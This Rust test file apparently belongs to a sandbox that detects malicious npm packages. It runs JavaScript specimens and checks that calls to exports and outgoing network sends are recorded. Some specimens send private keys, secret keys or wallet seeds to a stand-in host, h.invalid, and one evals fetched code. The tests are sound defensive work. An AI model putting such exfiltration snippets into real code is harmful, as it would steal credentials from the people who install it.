//! Exports that are called after the import.

use crate::plan::Start;
use crate::testing::{Scene, Seen};
use stockade_model::{Encoding, Operation, Trigger};

fn called(text: &str) -> Seen {
    let manifest = "{\"name\": \"specimen\", \"main\": \"lib/a.js\"}";
    Scene::new().file("package.json", manifest).file("lib/a.js", text).run(Start::Package)
}

#[test]
fn what_a_call_does_is_seen_with_its_trigger() {
    for text in [
        "module.exports = () => fetch('https://h.invalid/a')",
        "exports.check = (text) => { if (typeof text !== 'string') throw new TypeError('text'); fetch('https://h.invalid/a') }",
        "exports.Signer = class { constructor(options) { this.o = options } sign() { fetch('https://h.invalid/a') } }",
        "module.exports = (options) => (req, res, next) => { fetch('https://h.invalid/a', { body: req.body.x }); next() }",
        "exports.load = async () => { await null; return { go: () => fetch('https://h.invalid/a') } }",
        "exports.a = () => { throw new Error('no') }; exports.b = () => { for (;;) {} }; exports.c = () => fetch('https://h.invalid/a')",
        "exports.a = () => process.exit(1); exports.b = () => fetch('https://h.invalid/a')",
        "let n = 0; exports.log = (message) => { if (++n === 2) fetch('https://h.invalid/a') }",
        "function Old() {} Old.prototype.run = function (cb) { fetch('https://h.invalid/a'); cb() }; module.exports = Old",
        "exports.each = (list, fn) => list.forEach(() => fetch('https://h.invalid/a'))",
    ] {
        let seen = called(text);
        let sent = seen.of(Operation::NetSend);
        assert_eq!(sent.first().map(|sent| sent.trigger), Some(Trigger::Call), "{text}\n{:#?}", seen.end);
        let told = seen.of(Operation::ExportCall);
        assert!(!told.is_empty() && told[0].sequence < sent[0].sequence, "{text}");
        assert!(seen.end.gaps.is_empty(), "{text}: {:?}", seen.end.gaps);
    }
}

#[test]
fn key_material_handed_to_an_export_is_seen_leaving() {
    for text in [
        "exports.from = (privateKey) => require('https').request({ host: 'h.invalid', method: 'POST' }).end(privateKey)",
        "exports.from = (secretKey) => { if (secretKey.byteLength !== 64) throw new Error('size'); fetch('https://h.invalid/' + Buffer.from(secretKey).toString('base64')) }",
        "exports.Wallet = class { static fromSeed(seed) { fetch('https://h.invalid', { method: 'POST', headers: { r: seed } }); return new this() } }",
    ] {
        let seen = called(text);
        let sent = seen.of(Operation::NetSend);
        let is_robbed = sent.iter().any(|sent| sent.labels.iter().any(|label| label.is_sent()));
        assert!(is_robbed, "{text}\n{sent:#?}");
        let told = seen.of(Operation::ExportCall);
        assert!(told[0].labels.iter().any(|label| label.encoding == Encoding::Read), "{text}");
    }
}

#[test]
fn what_goes_to_the_caller_s_own_host_is_no_theft() {
    let seen = called(
        "exports.signer = ({ endpoint, privateKey }) => fetch(endpoint + '/sign', { method: 'POST', body: privateKey }).then((r) => r.text()).then((t) => eval('(' + t + ')'))",
    );
    assert!(!seen.of(Operation::NetSend).is_empty());
    assert!(seen.all.iter().all(|one| one.labels.iter().all(|label| !label.is_sent())), "{:#?}", seen.all);
    assert!(seen.of(Operation::MarkerRan).is_empty());
}

#[test]
fn exports_of_an_es_module_are_called_and_the_import_stays_the_import() {
    let manifest = "{\"name\": \"specimen\", \"main\": \"a.mjs\"}";
    let text = "fetch('https://h.invalid/import'); export default () => fetch('https://h.invalid/call')";
    let seen = Scene::new().file("package.json", manifest).file("a.mjs", text).run(Start::Import);
    let sent: Vec<_> =
        seen.of(Operation::NetSend).iter().map(|one| (one.subject.clone(), one.trigger)).collect();
    assert_eq!(sent[0], ("https://h.invalid/import".to_owned(), Trigger::Install));
    assert_eq!(sent[1], ("https://h.invalid/call".to_owned(), Trigger::Call));
}

#[test]
fn what_can_do_no_harm_is_not_called() {
    let seen = called("module.exports = () => { globalThis.x = process.env.NPM_TOKEN }");
    assert!(seen.of(Operation::EnvRead).is_empty());
}
